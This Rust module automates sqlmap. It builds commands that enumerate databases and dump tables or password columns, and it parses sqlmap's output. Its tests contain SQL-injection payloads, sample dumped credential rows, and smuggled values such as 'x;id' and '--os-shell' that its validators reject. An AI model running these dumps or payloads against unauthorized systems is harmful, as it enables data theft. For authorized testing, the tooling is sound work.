//! sqlmap integration: command templates per intent, tuning flags, and
//! recognizers over the console transcript.
//!
//! Every recognizer returns an empty result when its section is missing;
//! sqlmap output varies too much between versions and targets to treat an
//! absent section as an error.

use crate::types::{InjectionPoint, TableDump};
use crate::utils::shell;
use crate::{FleetError, Result};
use lazy_static::lazy_static;
use regex::Regex;
use serde::{Deserialize, Serialize};
use std::collections::HashSet;
use std::fmt;
use std::str::FromStr;

pub const DEFAULT_PREVIEW_ROWS: usize = 5;

/// Catalogue databases of MySQL, PostgreSQL and SQL Server
pub const SYSTEM_DATABASES: [&str; 9] = [
    "information_schema",
    "mysql",
    "performance_schema",
    "sys",
    "pg_catalog",
    "master",
    "model",
    "msdb",
    "tempdb",
];

lazy_static! {
    static ref DB_ENTRY: Regex = Regex::new(r"^\[\*\]\s+(\S+)").unwrap();
    static ref BOUNDARY: Regex = Regex::new(r"^\+[-+]+\+$").unwrap();
    static ref DBMS_INFO: Regex = Regex::new(r"the back-end DBMS is (.+)$").unwrap();
    static ref BANNER: Regex = Regex::new(r"^banner:\s*'?(.*?)'?$").unwrap();
    static ref PARAMETER: Regex = Regex::new(r"^Parameter:\s+(.+?)\s+\(([^)]+)\)$").unwrap();
    static ref TAMPER_NAME: Regex = Regex::new(r"^[A-Za-z0-9_]+$").unwrap();
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum DumpIntent {
    ListDatabases,
    ListTables,
    DumpTable,
    DumpColumn,
    FormTest,
    BannerGrab,
}

impl DumpIntent {
    pub fn as_str(&self) -> &'static str {
        match self {
            DumpIntent::ListDatabases => "list-databases",
            DumpIntent::ListTables => "list-tables",
            DumpIntent::DumpTable => "dump-table",
            DumpIntent::DumpColumn => "dump-column",
            DumpIntent::FormTest => "form-test",
            DumpIntent::BannerGrab => "banner-grab",
        }
    }
}

impl FromStr for DumpIntent {
    type Err = FleetError;

    fn from_str(s: &str) -> Result<Self> {
        match s {
            "list-databases" | "get-dbs" => Ok(DumpIntent::ListDatabases),
            "list-tables" | "get-tables" => Ok(DumpIntent::ListTables),
            "dump-table" => Ok(DumpIntent::DumpTable),
            "dump-column" => Ok(DumpIntent::DumpColumn),
            "form-test" => Ok(DumpIntent::FormTest),
            "banner-grab" => Ok(DumpIntent::BannerGrab),
            other => Err(FleetError::configuration(
                "intent",
                format!("unknown dump intent `{}`", other),
            )),
        }
    }
}

impl fmt::Display for DumpIntent {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Optional sqlmap tuning, appended to the command in a fixed order
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(default)]
pub struct Tuning {
    pub threads: Option<u8>,
    pub risk: Option<u8>,
    pub level: Option<u8>,
    pub tamper: Vec<String>,
    pub crawl: Option<u32>,
    #[serde(alias = "ssl")]
    pub force_ssl: bool,
    pub delay: Option<f64>,
}

fn check_range(field: &str, value: Option<u8>, low: u8, high: u8) -> Result<()> {
    match value {
        Some(v) if v < low || v > high => Err(FleetError::configuration(
            field,
            format!("{} is outside {}-{}", v, low, high),
        )),
        _ => Ok(()),
    }
}

impl Tuning {
    pub fn validate(&self) -> Result<()> {
        check_range("threads", self.threads, 1, 10)?;
        check_range("risk", self.risk, 1, 3)?;
        check_range("level", self.level, 1, 5)?;

        if let Some(bad) = self.tamper.iter().find(|t| !TAMPER_NAME.is_match(t)) {
            return Err(FleetError::configuration(
                "tamper",
                format!("invalid tamper script name `{}`", bad),
            ));
        }
        if self.crawl == Some(0) {
            return Err(FleetError::configuration("crawl", "crawl depth must be positive"));
        }
        if let Some(delay) = self.delay {
            if !delay.is_finite() || delay < 0.0 {
                return Err(FleetError::configuration(
                    "delay",
                    format!("{} is not a valid delay in seconds", delay),
                ));
            }
        }
        Ok(())
    }

    fn append_to(&self, command: &mut String) {
        if let Some(threads) = self.threads {
            command.push_str(&format!(" --threads={}", threads));
        }
        if let Some(risk) = self.risk {
            command.push_str(&format!(" --risk={}", risk));
        }
        if let Some(level) = self.level {
            command.push_str(&format!(" --level={}", level));
        }
        if !self.tamper.is_empty() {
            command.push_str(&format!(" --tamper={}", self.tamper.join(",")));
        }
        if let Some(crawl) = self.crawl {
            command.push_str(&format!(" --crawl={}", crawl));
        }
        if self.force_ssl {
            command.push_str(" --force-ssl");
        }
        if let Some(delay) = self.delay {
            command.push_str(&format!(" --delay={}", delay));
        }
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct DumpSpec {
    pub intent: DumpIntent,
    pub target: String,
    pub database: Option<String>,
    pub table: Option<String>,
    pub column: Option<String>,
    #[serde(default)]
    pub tuning: Tuning,
}

impl DumpSpec {
    pub fn new(intent: DumpIntent, target: impl Into<String>) -> Self {
        Self {
            intent,
            target: target.into(),
            database: None,
            table: None,
            column: None,
            tuning: Tuning::default(),
        }
    }

    pub fn database(mut self, database: impl Into<String>) -> Self {
        self.database = Some(database.into());
        self
    }

    pub fn table(mut self, table: impl Into<String>) -> Self {
        self.table = Some(table.into());
        self
    }

    pub fn column(mut self, column: impl Into<String>) -> Self {
        self.column = Some(column.into());
        self
    }

    pub fn tuning(mut self, tuning: Tuning) -> Self {
        self.tuning = tuning;
        self
    }
}

/// String-typed dump request as received by a calling layer
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(default)]
pub struct DumpRequest {
    pub intent: String,
    pub target: String,
    pub database: Option<String>,
    pub table: Option<String>,
    pub column: Option<String>,
    pub options: Tuning,
}

impl TryFrom<DumpRequest> for DumpSpec {
    type Error = FleetError;

    fn try_from(request: DumpRequest) -> Result<Self> {
        let spec = DumpSpec {
            intent: request.intent.parse()?,
            target: request.target,
            database: request.database,
            table: request.table,
            column: request.column,
            tuning: request.options,
        };
        build_command(&spec)?;
        Ok(spec)
    }
}

fn required<'a>(field: &str, intent: DumpIntent, value: Option<&'a str>) -> Result<&'a str> {
    match value.map(str::trim) {
        Some(v) if !v.is_empty() => Ok(v),
        _ => Err(FleetError::configuration(
            field,
            format!("`{}` is required for {}", field, intent),
        )),
    }
}

/// URL-shaped targets must parse and use http(s); bare hosts pass through quoted
fn validate_target(target: &str) -> Result<()> {
    if target.starts_with('-') {
        return Err(FleetError::configuration(
            "target",
            format!("invalid target `{}`", target),
        ));
    }
    if !target.contains("://") {
        return Ok(());
    }
    let url = url::Url::parse(target)
        .map_err(|e| FleetError::configuration("target", format!("invalid URL `{}`: {}", target, e)))?;
    match url.scheme() {
        "http" | "https" => Ok(()),
        other => Err(FleetError::configuration(
            "target",
            format!("unsupported URL scheme `{}`", other),
        )),
    }
}

pub fn build_command(spec: &DumpSpec) -> Result<String> {
    build_command_for("sqlmap", spec)
}

/// Same as [`build_command`] with a configurable program name
pub fn build_command_for(program: &str, spec: &DumpSpec) -> Result<String> {
    let intent = spec.intent;
    let target = required("target", intent, Some(spec.target.as_str()))?;
    validate_target(target)?;
    let base = format!("{} -u {} --batch", program, shell::quote(target));

    let database = || required("database", intent, spec.database.as_deref()).map(shell::quote);
    let table = || required("table", intent, spec.table.as_deref()).map(shell::quote);
    let column = || required("column", intent, spec.column.as_deref()).map(shell::quote);

    let mut command = match intent {
        DumpIntent::ListDatabases => format!("{} --dbs", base),
        DumpIntent::ListTables => format!("{} -D {} --tables", base, database()?),
        DumpIntent::DumpTable => format!("{} -D {} -T {} --dump", base, database()?, table()?),
        DumpIntent::DumpColumn => {
            let (db, tb) = (database()?, table()?);
            format!("{} -D {} -T {} -C {} --dump", base, db, tb, column()?)
        }
        DumpIntent::FormTest => format!("{} --forms", base),
        DumpIntent::BannerGrab => format!("{} --banner", base),
    };

    spec.tuning.validate()?;
    spec.tuning.append_to(&mut command);
    Ok(command)
}

fn trimmed_lines(output: &str) -> Vec<&str> {
    output.lines().map(str::trim).collect()
}

fn first_cell(line: &str) -> Option<&str> {
    line.strip_prefix('|')?
        .split('|')
        .next()
        .map(str::trim)
        .filter(|cell| !cell.is_empty())
}

#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct DatabaseListing {
    pub dbms: Option<String>,
    pub databases: Vec<String>,
}

pub fn parse_dbms(output: &str) -> Option<String> {
    let lines = trimmed_lines(output);

    let summary = lines
        .iter()
        .find(|line| line.starts_with("back-end DBMS"))
        .map(|line| line.split_whitespace().skip(2).collect::<Vec<_>>().join(" "))
        .filter(|dbms| !dbms.is_empty());

    summary.or_else(|| {
        lines
            .iter()
            .find_map(|line| DBMS_INFO.captures(line))
            .map(|caps| caps[1].trim().to_string())
    })
}

/// DBMS name and user databases from a `--dbs` transcript
pub fn parse_databases(output: &str) -> DatabaseListing {
    let lines = trimmed_lines(output);
    let mut databases = Vec::new();
    let mut i = 0;

    while i < lines.len() {
        if lines[i].contains("available databases") && i + 1 < lines.len() {
            i += 1;
            while let Some(caps) = lines.get(i).and_then(|line| DB_ENTRY.captures(line)) {
                databases.push(caps[1].to_string());
                i += 1;
            }
            continue;
        }
        i += 1;
    }

    databases.retain(|db| !SYSTEM_DATABASES.contains(&db.as_str()));

    DatabaseListing {
        dbms: parse_dbms(output),
        databases,
    }
}

/// Table names from a `--tables` transcript, first-seen order, no duplicates
pub fn parse_tables(output: &str) -> Vec<String> {
    let lines = trimmed_lines(output);
    let mut seen = HashSet::new();
    let mut tables = Vec::new();
    let mut i = 0;

    while i < lines.len() {
        if BOUNDARY.is_match(lines[i]) {
            i += 1;
            while let Some(name) = lines.get(i).and_then(|line| first_cell(line)) {
                if seen.insert(name) {
                    tables.push(name.to_string());
                }
                i += 1;
            }
            continue;
        }
        i += 1;
    }

    tables
}

/// Header and up to `numrows` raw rows of the first table in a `--dump` transcript
pub fn parse_table_dump(output: &str, numrows: usize) -> TableDump {
    let lines = trimmed_lines(output);
    let mut dump = TableDump::default();

    let start = match lines.iter().position(|line| BOUNDARY.is_match(line)) {
        Some(pos) => pos + 1,
        None => return dump,
    };

    let mut i = start;
    let header_follows = lines.get(i).map_or(false, |line| line.starts_with('|'))
        && lines.get(i + 1).map_or(false, |line| BOUNDARY.is_match(line));
    if header_follows {
        dump.header = Some(lines[i].to_string());
        i += 2;
    }

    while dump.rows.len() < numrows {
        match lines.get(i) {
            Some(line) if line.starts_with('|') => dump.rows.push(line.to_string()),
            _ => break,
        }
        i += 1;
    }

    dump
}

pub fn parse_banner(output: &str) -> Option<String> {
    trimmed_lines(output)
        .iter()
        .find_map(|line| BANNER.captures(line))
        .map(|caps| caps[1].to_string())
        .filter(|banner| !banner.is_empty())
}

/// Injectable parameters reported in the injection-point summary
pub fn parse_injection_points(output: &str) -> Vec<InjectionPoint> {
    let lines = trimmed_lines(output);
    let mut points: Vec<InjectionPoint> = Vec::new();
    let mut i = 0;

    while i < lines.len() {
        let caps = match PARAMETER.captures(lines[i]) {
            Some(caps) => caps,
            None => {
                i += 1;
                continue;
            }
        };

        let mut point = InjectionPoint {
            parameter: caps[1].to_string(),
            place: caps[2].to_string(),
            techniques: Vec::new(),
        };
        i += 1;
        while let Some(line) = lines.get(i) {
            if *line == "---" || PARAMETER.is_match(line) {
                break;
            }
            if let Some(technique) = line.strip_prefix("Type:") {
                point.techniques.push(technique.trim().to_string());
            }
            i += 1;
        }

        let known = points
            .iter()
            .any(|p| p.parameter == point.parameter && p.place == point.place);
        if !known {
            points.push(point);
        }
    }

    points
}

/// Everything recognizable in one transcript, with warnings for sections the
/// intent expected but did not find
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Transcript {
    pub dbms: Option<String>,
    pub databases: Vec<String>,
    pub tables: Vec<String>,
    pub dump: Option<TableDump>,
    pub banner: Option<String>,
    pub injection_points: Vec<InjectionPoint>,
    pub warnings: Vec<String>,
}

pub fn summarize(intent: DumpIntent, output: &str, preview_rows: usize) -> Transcript {
    let mut transcript = Transcript {
        dbms: parse_dbms(output),
        injection_points: parse_injection_points(output),
        ..Default::default()
    };

    match intent {
        DumpIntent::ListDatabases => {
            transcript.databases = parse_databases(output).databases;
            if !output.contains("available databases") {
                transcript.warnings.push("no database listing found in sqlmap output".to_string());
            }
        }
        DumpIntent::ListTables => {
            transcript.tables = parse_tables(output);
            if transcript.tables.is_empty() {
                transcript.warnings.push("no table listing found in sqlmap output".to_string());
            }
        }
        DumpIntent::DumpTable | DumpIntent::DumpColumn => {
            let dump = parse_table_dump(output, preview_rows);
            if dump.header.is_none() && dump.rows.is_empty() {
                transcript.warnings.push("no table dump found in sqlmap output".to_string());
            } else {
                transcript.dump = Some(dump);
            }
        }
        DumpIntent::BannerGrab => {
            transcript.banner = parse_banner(output);
            if transcript.banner.is_none() {
                transcript.warnings.push("no banner found in sqlmap output".to_string());
            }
        }
        DumpIntent::FormTest => {}
    }

    transcript
}

#[cfg(test)]
mod tests {
    use super::*;

    const DBS_OUTPUT: &str = "
[12:00:01] [INFO] testing connection to the target URL
[12:00:03] [INFO] the back-end DBMS is MySQL
web server operating system: Linux Ubuntu
web application technology: Apache 2.4.41
back-end DBMS: MySQL >= 5.0.12
[12:00:04] [INFO] fetching database names
available databases [3]:
[*] app_db
[*] information_schema
[*] shop

[12:00:05] [INFO] fetched data logged to text files
";

    const TABLES_OUTPUT: &str = "
back-end DBMS: MySQL >= 5.0.12
[12:00:04] [INFO] fetching tables for database: 'app_db'
Database: app_db
[3 tables]
+----------+
| users    |
| orders   |
| sessions |
+----------+

Database: app_db
[1 table]
+----------+
| users    |
+----------+
";

    const DUMP_OUTPUT: &str = "
Database: app_db
Table: users
[7 entries]
+----+-------+----------+
| id | name  | password |
+----+-------+----------+
| 1  | admin | hash1    |
| 2  | bob   | hash2    |
| 3  | carol | hash3    |
| 4  | dave  | hash4    |
| 5  | erin  | hash5    |
| 6  | frank | hash6    |
| 7  | grace | hash7    |
+----+-------+----------+
";

    const INJECTION_OUTPUT: &str = "
sqlmap identified the following injection point(s) with a total of 46 HTTP(s) requests:
---
Parameter: id (GET)
    Type: boolean-based blind
    Title: AND boolean-based blind - WHERE or HAVING clause
    Payload: id=1 AND 4726=4726

    Type: time-based blind
    Title: MySQL >= 5.0.12 AND time-based blind (query SLEEP)
    Payload: id=1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)
---
[12:00:06] [INFO] the back-end DBMS is MySQL
banner: '5.7.33-0ubuntu0.16.04.1'
";

    #[test]
    fn test_dump_table_command() {
        let spec = DumpSpec::new(DumpIntent::DumpTable, "t").database("d").table("tb");
        assert_eq!(build_command(&spec).unwrap(), "sqlmap -u t --batch -D d -T tb --dump");
    }

    #[test]
    fn test_intent_templates() {
        let url = "http://10.0.0.5/item.php?id=1";
        let cases = [
            (DumpSpec::new(DumpIntent::ListDatabases, url), "sqlmap -u 'http://10.0.0.5/item.php?id=1' --batch --dbs"),
            (
                DumpSpec::new(DumpIntent::ListTables, url).database("app_db"),
                "sqlmap -u 'http://10.0.0.5/item.php?id=1' --batch -D app_db --tables",
            ),
            (
                DumpSpec::new(DumpIntent::DumpColumn, url).database("app_db").table("users").column("password"),
                "sqlmap -u 'http://10.0.0.5/item.php?id=1' --batch -D app_db -T users -C password --dump",
            ),
            (DumpSpec::new(DumpIntent::FormTest, "http://10.0.0.5/"), "sqlmap -u http://10.0.0.5/ --batch --forms"),
            (DumpSpec::new(DumpIntent::BannerGrab, "10.0.0.5"), "sqlmap -u 10.0.0.5 --batch --banner"),
        ];
        for (spec, expected) in cases {
            assert_eq!(build_command(&spec).unwrap(), expected);
        }
    }

    #[test]
    fn test_tuning_flag_order() {
        let tuning = Tuning {
            threads: Some(4),
            risk: Some(2),
            level: Some(3),
            tamper: vec!["space2comment".into(), "between".into()],
            crawl: Some(2),
            force_ssl: true,
            delay: Some(0.5),
        };
        let spec = DumpSpec::new(DumpIntent::ListDatabases, "t").tuning(tuning);
        assert_eq!(
            build_command(&spec).unwrap(),
            "sqlmap -u t --batch --dbs --threads=4 --risk=2 --level=3 --tamper=space2comment,between --crawl=2 --force-ssl --delay=0.5"
        );
    }

    #[test]
    fn test_missing_fields_reported_in_order() {
        let field_of = |spec: DumpSpec| match build_command(&spec) {
            Err(FleetError::Configuration { field, .. }) => field,
            other => panic!("unexpected result: {:?}", other),
        };
        assert_eq!(field_of(DumpSpec::new(DumpIntent::DumpColumn, "")), "target");
        assert_eq!(field_of(DumpSpec::new(DumpIntent::DumpColumn, "t")), "database");
        assert_eq!(field_of(DumpSpec::new(DumpIntent::DumpColumn, "t").database("d")), "table");
        assert_eq!(
            field_of(DumpSpec::new(DumpIntent::DumpColumn, "t").database("d").table("tb")),
            "column"
        );
        assert_eq!(field_of(DumpSpec::new(DumpIntent::ListTables, "t").database("  ")), "database");
    }

    #[test]
    fn test_tuning_ranges() {
        let with = |tuning: Tuning| build_command(&DumpSpec::new(DumpIntent::ListDatabases, "t").tuning(tuning));
        assert!(with(Tuning { threads: Some(11), ..Default::default() }).is_err());
        assert!(with(Tuning { risk: Some(0), ..Default::default() }).is_err());
        assert!(with(Tuning { level: Some(6), ..Default::default() }).is_err());
        assert!(with(Tuning { tamper: vec!["x;id".into()], ..Default::default() }).is_err());
        assert!(with(Tuning { delay: Some(-1.0), ..Default::default() }).is_err());
        assert!(with(Tuning { threads: Some(10), risk: Some(3), level: Some(5), ..Default::default() }).is_ok());
    }

    #[test]
    fn test_url_targets_validated() {
        assert!(build_command(&DumpSpec::new(DumpIntent::ListDatabases, "ftp://host/x")).is_err());
        assert!(build_command(&DumpSpec::new(DumpIntent::ListDatabases, "http://")).is_err());
    }

    #[test]
    fn test_option_shaped_target_rejected() {
        match build_command(&DumpSpec::new(DumpIntent::ListDatabases, "--os-shell")) {
            Err(FleetError::Configuration { field, .. }) => assert_eq!(field, "target"),
            other => panic!("unexpected result: {:?}", other),
        }
        assert!(build_command(&DumpSpec::new(DumpIntent::ListDatabases, "-r")).is_err());
        assert!(build_command(&DumpSpec::new(DumpIntent::ListDatabases, "db-host")).is_ok());
    }

    #[test]
    fn test_dump_request_conversion() {
        let request: DumpRequest = serde_json::from_str(
            r#"{"intent": "list-tables", "target": "t", "database": "app_db",
                "options": {"threads": 2, "ssl": true}}"#,
        )
        .unwrap();
        let spec = DumpSpec::try_from(request).unwrap();
        assert_eq!(spec.intent, DumpIntent::ListTables);
        assert_eq!(
            build_command(&spec).unwrap(),
            "sqlmap -u t --batch -D app_db --tables --threads=2 --force-ssl"
        );

        let bad = DumpRequest {
            intent: "drop-everything".into(),
            target: "t".into(),
            ..Default::default()
        };
        match DumpSpec::try_from(bad) {
            Err(FleetError::Configuration { field, message }) => {
                assert_eq!(field, "intent");
                assert!(message.contains("drop-everything"));
            }
            other => panic!("unexpected result: {:?}", other),
        }
    }

    #[test]
    fn test_parse_databases_filters_system_catalogue() {
        let listing = parse_databases(DBS_OUTPUT);
        assert_eq!(listing.dbms.as_deref(), Some("MySQL >= 5.0.12"));
        assert_eq!(listing.databases, ["app_db", "shop"]);
    }

    #[test]
    fn test_dbms_falls_back_to_info_line() {
        let output = "[12:00:03] [INFO] the back-end DBMS is PostgreSQL\n";
        assert_eq!(parse_dbms(output).as_deref(), Some("PostgreSQL"));
    }

    #[test]
    fn test_available_databases_as_last_line() {
        let listing = parse_databases("back-end DBMS: MySQL\navailable databases [0]:");
        assert!(listing.databases.is_empty());
    }

    #[test]
    fn test_parse_tables_dedupes_in_order() {
        assert_eq!(parse_tables(TABLES_OUTPUT), ["users", "orders", "sessions"]);
    }

    #[test]
    fn test_parse_table_dump_limits_rows() {
        let dump = parse_table_dump(DUMP_OUTPUT, DEFAULT_PREVIEW_ROWS);
        assert_eq!(dump.header.as_deref(), Some("| id | name  | password |"));
        assert_eq!(dump.rows.len(), 5);
        assert_eq!(dump.rows[0], "| 1  | admin | hash1    |");
        assert_eq!(dump.rows[4], "| 5  | erin  | hash5    |");

        let short = parse_table_dump(DUMP_OUTPUT, 20);
        assert_eq!(short.rows.len(), 7);
    }

    #[test]
    fn test_banner_and_injection_points() {
        assert_eq!(parse_banner(INJECTION_OUTPUT).as_deref(), Some("5.7.33-0ubuntu0.16.04.1"));

        let points = parse_injection_points(INJECTION_OUTPUT);
        assert_eq!(points.len(), 1);
        assert_eq!(points[0].parameter, "id");
        assert_eq!(points[0].place, "GET");
        assert_eq!(points[0].techniques, ["boolean-based blind", "time-based blind"]);
    }

    #[test]
    fn test_parsers_empty_without_markers() {
        let noise = "[12:00:01] [CRITICAL] all tested parameters do not appear to be injectable\n";
        assert_eq!(parse_databases(noise), DatabaseListing::default());
        assert!(parse_tables(noise).is_empty());
        assert_eq!(parse_table_dump(noise, 5), TableDump::default());
        assert!(parse_banner(noise).is_none());
        assert!(parse_injection_points(noise).is_empty());
        assert!(parse_tables("").is_empty());
    }

    #[test]
    fn test_summarize_warns_on_missing_section() {
        let transcript = summarize(DumpIntent::ListTables, "nothing here", 5);
        assert!(transcript.tables.is_empty());
        assert_eq!(transcript.warnings.len(), 1);

        let transcript = summarize(DumpIntent::DumpTable, DUMP_OUTPUT, 2);
        assert!(transcript.warnings.is_empty());
        assert_eq!(transcript.dump.map(|d| d.rows.len()), Some(2));
    }
}
